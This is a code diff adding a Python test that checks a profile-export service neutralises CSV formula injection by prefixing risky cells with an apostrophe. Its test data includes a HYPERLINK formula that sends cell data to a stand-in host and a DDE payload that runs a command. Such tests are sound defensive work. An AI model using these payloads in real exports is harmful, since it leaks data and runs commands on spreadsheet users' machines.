@@ -91,3 +91,21 @@ def test_export_reports_with_any_text_fit_in_a_header(tmp_path: Path) -> None:
             assert json.loads(answer.headers["x-portrait-export"])["purpose"] == "marketing-Ā-ß"
     finally:
         service.close()
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_defused(portrait: Portrait, tmp_path: Path) -> None:
+    notes = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3*A1", "@SUM(A1:A9)",
+             "\tx", "+48 512-345-678", "-12.5", "plain = text", "2024-01-05"]
+    portrait.ingest_messages([{"type": "identify", "userId": f"u{i}", "traits": {"note": note}}
+                              for i, note in enumerate(notes)] +
+                             [{"type": "identify", "userId": "=1+2", "traits": {"note": None}}])
+    portrait.process_pending()
+    portrait.export_profiles(tmp_path / "p.csv", "csv", attributes=["note"])
+    with (tmp_path / "p.csv").open(newline="") as handle:
+        rows = {row["user_id"]: row["note"] for row in csv.DictReader(handle)}
+    assert [rows[f"u{i}"] for i in range(len(notes))] == [
+        "'" + notes[0], "'" + notes[1], "'" + notes[2], "'" + notes[3], "'\tx", "+48 512-345-678", "-12.5",
+        "plain = text", "2024-01-05"]
+    assert rows["'=1+2"] == ""
+    portrait.export_profiles(tmp_path / "p.ndjson", "ndjson", attributes=["note"])
+    assert notes[0] in [json.loads(line)["note"] for line in (tmp_path / "p.ndjson").read_text().splitlines()]
